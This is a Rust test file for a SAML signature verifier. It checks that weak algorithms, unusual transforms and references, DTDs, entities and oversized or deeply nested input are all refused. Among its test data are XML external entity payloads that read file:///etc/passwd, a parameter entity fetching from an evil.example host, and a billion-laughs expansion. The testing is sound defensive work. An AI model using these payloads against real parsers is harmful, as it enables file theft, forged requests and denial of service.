//! Unsupported input is rejected: other signature forms, document types, floods.

use super::*;

const NOT_XML: SamlError = SamlError::Unreadable("it is not XML, or has a DTD, or is too large");

#[test]
fn nothing_but_one_reference_in_one_transformation_is_understood() {
    let enveloped = format!(r#"<ds:Transform Algorithm="{ENVELOPED}"/>"#);
    let exclusive = format!(r#"<ds:Transform Algorithm="{EXCLUSIVE}"/>"#);
    let xpath = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[@Name='Role'])</ds:XPath></ds:Transform>"#;
    let xslt = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x xmlns="urn:x"/></ds:Transform>"#;
    let sha256 = "http://www.w3.org/2001/04/xmlenc#sha256";
    let rsa = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256";
    let method = format!(r#"<ds:SignatureMethod Algorithm="{rsa}"/>"#);
    let c14n = format!(r#"<ds:CanonicalizationMethod Algorithm="{EXCLUSIVE}"/>"#);
    let with = |algorithm: &str| format!(r#"<ds:SignatureMethod Algorithm="{algorithm}"/>"#);
    let canonical =
        |algorithm: &str| format!(r#"<ds:CanonicalizationMethod Algorithm="{algorithm}"/>"#);
    let transform = |algorithm: &str| format!(r#"<ds:Transform Algorithm="{algorithm}"/>"#);
    let rows = [
        (
            "SHA-1 signature",
            &method,
            with("http://www.w3.org/2000/09/xmldsig#rsa-sha1"),
        ),
        (
            "MD5 signature",
            &method,
            with("http://www.w3.org/2001/04/xmldsig-more#rsa-md5"),
        ),
        (
            "HMAC",
            &method,
            with("http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"),
        ),
        ("none", &method, with("none")),
        (
            "RSA-PSS",
            &method,
            with("http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"),
        ),
        (
            "a parameter of the method",
            &method,
            method.replace(
                "/>",
                "><ds:HMACOutputLength>0</ds:HMACOutputLength></ds:SignatureMethod>",
            ),
        ),
        (
            "SHA-1 digest",
            &sha256.to_owned(),
            "http://www.w3.org/2000/09/xmldsig#sha1".to_owned(),
        ),
        (
            "MD5 digest",
            &sha256.to_owned(),
            "http://www.w3.org/2001/04/xmldsig-more#md5".to_owned(),
        ),
        (
            "Canonical XML 1.0",
            &c14n,
            canonical("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ),
        (
            "Canonical XML 1.1",
            &c14n,
            canonical("http://www.w3.org/2006/12/xml-c14n11"),
        ),
        (
            "with comments",
            &c14n,
            canonical("http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
        ),
        (
            "transform 1.0",
            &exclusive,
            transform("http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
        ),
        (
            "transform with comments",
            &exclusive,
            transform("http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
        ),
        ("an XPath filter", &exclusive, format!("{xpath}{exclusive}")),
        (
            "an XPath filter in place of a transform",
            &enveloped,
            xpath.to_owned(),
        ),
        ("XSLT", &enveloped, xslt.to_owned()),
        ("one transform", &enveloped, String::new()),
        (
            "transforms the other way round",
            &format!("{enveloped}{exclusive}"),
            format!("{exclusive}{enveloped}"),
        ),
        ("5,000 transforms", &exclusive, exclusive.repeat(500)),
        (
            "no transforms",
            &format!("<ds:Transforms>{enveloped}{exclusive}</ds:Transforms>"),
            String::new(),
        ),
        (
            "a type",
            &"URI=".to_owned(),
            r#"Type="http://www.w3.org/2000/09/xmldsig#Manifest" URI="#.to_owned(),
        ),
        ("an object", &"#_a".to_owned(), "#_object".to_owned()),
        ("the whole document", &"#_a".to_owned(), String::new()),
        (
            "an xpointer",
            &"#_a".to_owned(),
            "#xpointer(id('_a'))".to_owned(),
        ),
        ("a file", &"#_a".to_owned(), "file:///etc/passwd".to_owned()),
        ("no URI", &r##"URI="#_a""##.to_owned(), String::new()),
        (
            "the id of the response",
            &"#_a".to_owned(),
            "#_r".to_owned(),
        ),
        (
            "a prefix list of another form",
            &exclusive,
            exclusive.replace("/>", "><x/></ds:Transform>"),
        ),
    ];
    for (what, from, to) in rows {
        let xml = signed_as(&unsigned(), RSA, |info| changed(&info, from, &to));
        assert_eq!(verified(&xml), Err(PROFILE), "{what}");
    }
    for count in [2, 1_000] {
        let xml = signed_as(&unsigned(), RSA, |info| {
            let reference = part(&info, "<ds:Reference ", "</ds:Reference>").to_owned();
            changed(&info, &reference, &reference.repeat(count))
        });
        let expected = if count == 2 {
            PROFILE
        } else {
            SamlError::Unreadable("it is too long")
        };
        assert_eq!(verified(&xml), Err(expected), "{count} references");
    }
    // The algorithm must match the key type: an ECDSA algorithm with an RSA signature finds no key.
    let xml = signed_as(&unsigned(), RSA, |info| {
        changed(&info, "rsa-sha256", "ecdsa-sha256")
    });
    assert_eq!(verified(&xml), Err(NO_KEY));
    let xml = signed_as(&unsigned(), RSA, |info| {
        changed(&info, "rsa-sha256", "rsa-sha512")
    });
    assert_eq!(verified(&xml), Err(NO_KEY));
}

#[test]
fn a_document_type_an_entity_or_an_instruction_is_refused() {
    let typed = |inside: &str| format!("<!DOCTYPE r [{inside}]>{GOOD}");
    let laughs: String = (1..10)
        .map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10)))
        .collect();
    let named = |entity: &str| changed(&typed(entity), ">admin<", ">&e;<");
    check([
        ("a harmless one", format!("<!DOCTYPE r>{GOOD}"), NOT_XML),
        (
            "an external one",
            format!("<!DOCTYPE r SYSTEM \"file:///etc/passwd\">{GOOD}"),
            NOT_XML,
        ),
        (
            "an entity that says the signed text",
            named("<!ENTITY e \"admin\">"),
            NOT_XML,
        ),
        (
            "an external entity",
            named("<!ENTITY e SYSTEM \"file:///etc/passwd\">"),
            NOT_XML,
        ),
        (
            "a parameter entity",
            typed("<!ENTITY % e SYSTEM \"https://evil.example/\"> %e;"),
            NOT_XML,
        ),
        (
            "an attribute list",
            typed("<!ATTLIST x id ID #IMPLIED>"),
            NOT_XML,
        ),
        (
            "a billion laughs",
            named(&format!("<!ENTITY l0 \"ha\">{laughs}<!ENTITY e \"&l9;\">")),
            NOT_XML,
        ),
        (
            "an unknown entity",
            changed(GOOD, ">admin<", ">&e;<"),
            NOT_XML,
        ),
        (
            "an instruction",
            changed(GOOD, ">admin<", ">admin<?x y?><"),
            SamlError::Unreadable("it has a processing instruction"),
        ),
        (
            "an instruction before the response",
            format!("<?xml-stylesheet href=\"x\"?>{GOOD}"),
            SamlError::Unreadable("it has a processing instruction"),
        ),
    ]);
}

#[test]
fn floods_are_refused_before_they_cost_anything() {
    let attributes = |count: usize| (0..count).map(|n| format!(" a{n}=''")).collect::<String>();
    let namespaces = |count: usize| {
        (0..count)
            .map(|n| format!(" xmlns:a{n}='u'"))
            .collect::<String>()
    };
    let status = |with: String| changed(GOOD, "<samlp:Status>", &format!("<samlp:Status{with}>"));
    let deep = |levels: usize| {
        changed(
            GOOD,
            "<samlp:Status>",
            &format!(
                "{}{}<samlp:Status>",
                "<x>".repeat(levels),
                "</x>".repeat(levels)
            ),
        )
    };
    let many = SamlError::Unreadable("an element has too many attributes");
    check([
        (
            "too long",
            changed(GOOD, ">admin<", &format!(">{}<", "a".repeat(80_000))),
            SamlError::Unreadable("it is too long"),
        ),
        ("65 attributes", status(attributes(65)), many.clone()),
        ("65 namespaces", status(namespaces(65)), many),
        (
            "a tag of 5,000",
            status(attributes(5_000)),
            SamlError::Unreadable("a tag has too many attributes"),
        ),
        (
            "70 levels",
            deep(70),
            SamlError::Unreadable("elements are nested too deep"),
        ),
        (
            "8,000 levels",
            deep(8_000),
            SamlError::Unreadable("elements are nested too deep"),
        ),
        (
            "27,000 nodes",
            changed(
                GOOD,
                "<samlp:Status>",
                &format!("{}<samlp:Status>", "<x/>a".repeat(13_500)),
            ),
            NOT_XML,
        ),
    ]);
    let metadata = Metadata::parse(&metadata_of(&[RSA_CERTIFICATE])).unwrap();
    let of = |text: &str| {
        verify(
            text,
            &metadata,
            &Encryption::default(),
            Timestamp::from_secs(NOW),
        )
    };
    for (what, text) in [
        ("nothing", ""),
        ("no base64", "<samlp:Response/>"),
        ("no padding", "PHg+PC94"),
        ("no UTF-8", "/w=="),
    ] {
        assert!(matches!(of(text), Err(SamlError::Unreadable(_))), "{what}");
    }
}
